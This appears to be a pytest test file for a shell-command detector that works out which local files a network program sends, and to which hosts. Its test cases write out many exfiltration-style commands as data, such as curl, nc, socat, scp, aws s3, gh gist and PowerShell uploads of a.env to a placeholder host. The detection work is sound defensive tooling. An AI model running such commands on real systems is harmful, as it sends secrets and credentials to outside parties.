"""Files that a network program sends."""

from __future__ import annotations

import pytest

from riskproof.detect.commands_sent import SENDERS
from riskproof.detect.shell import analyse


@pytest.mark.parametrize(
    ("text", "files"),
    [
        ("curl -d @a.env https://h.test", ["a.env"]),
        ("curl -d @- https://h.test < a.env", ["a.env"]),
        ("curl https://h.test < a.env", []),
        ("wget --post-file=a.env https://h.test", ["a.env"]),
        ("scp -P 22 -i key a.env u@h.test:/x", ["a.env"]),
        ("scp u@h.test:/x/a.env .", []),
        ("rsync -a --exclude b.env a/ h.test:", ["a/"]),
        ("rsync a.env b.env rsync://h.test/m", ["a.env", "b.env"]),
        ("rsync -a a/ b/", []),
        ("ssh -i key h.test", []),
        ("ssh h.test 'cat > x' < a.env", ["a.env"]),
        ("nc h.test 1 < a.env", ["a.env"]),
        ("telnet h.test 1 < a.env", ["a.env"]),
        ("socat -u FILE:a.env,rdonly TCP:h.test:1", ["a.env"]),
        ("socat EXEC:'cat a.env' TCP:h.test:1", ["a.env"]),
        ("openssl s_client -connect h.test:1 < a.env", ["a.env"]),
        ("sftp u@h.test <<< 'put a.env'", ["a.env"]),
        ("lftp -e 'mirror -R dir; bye' h.test", ["dir"]),
        ("tftp -p -l a.env h.test", ["a.env", "h.test"]),
        ("http POST h.test f@a.env", ["a.env"]),
        ("http h.test mail=ana@h.test", []),
        ("aws s3 cp a.env s3://b", ["a.env"]),
        ("gh gist create a.env", ["a.env"]),
        ("mail -s hi ana@h.test < a.env", ["a.env"]),
        ("croc send a.env", ["a.env"]),
        ("iwr -Uri https://h.test -Method Put -InFile a.env", ["a.env"]),
        ("irm https://h.test -Method Post -Body (Get-Content a.env -Raw)", ["a.env"]),
        ("bitsadmin /transfer x /upload https://h.test/a a.env", ["x", "a.env"]),
        ("git push origin main", []),
        ("cat a.env", []),
        ("echo 'curl -d @a.env https://h.test'", []),
    ],
)
def test_a_program_sends_what_its_command_line_or_its_input_says(text: str, files: list[str]) -> None:
    sent = [path for path, _ in analyse(text).sent]
    assert [path for path in sent if path[:1] != "/"] == files


def test_what_a_program_logs_in_with_is_not_sent() -> None:
    assert analyse("curl --cert a.pem --key b.pem -b c -o d https://h.test; ssh -i e -F f h.test ls; docker login h.test").sent == ()


def test_each_file_is_told_with_the_hosts_of_its_program() -> None:
    assert analyse("curl -d @a -x p.test https://h.test; nc b.test 1 < c").sent == (("a", ("p.test", "https://h.test")), ("c", ("b.test",)))


def test_git_sends_commits_not_files() -> None:
    assert "git" not in SENDERS
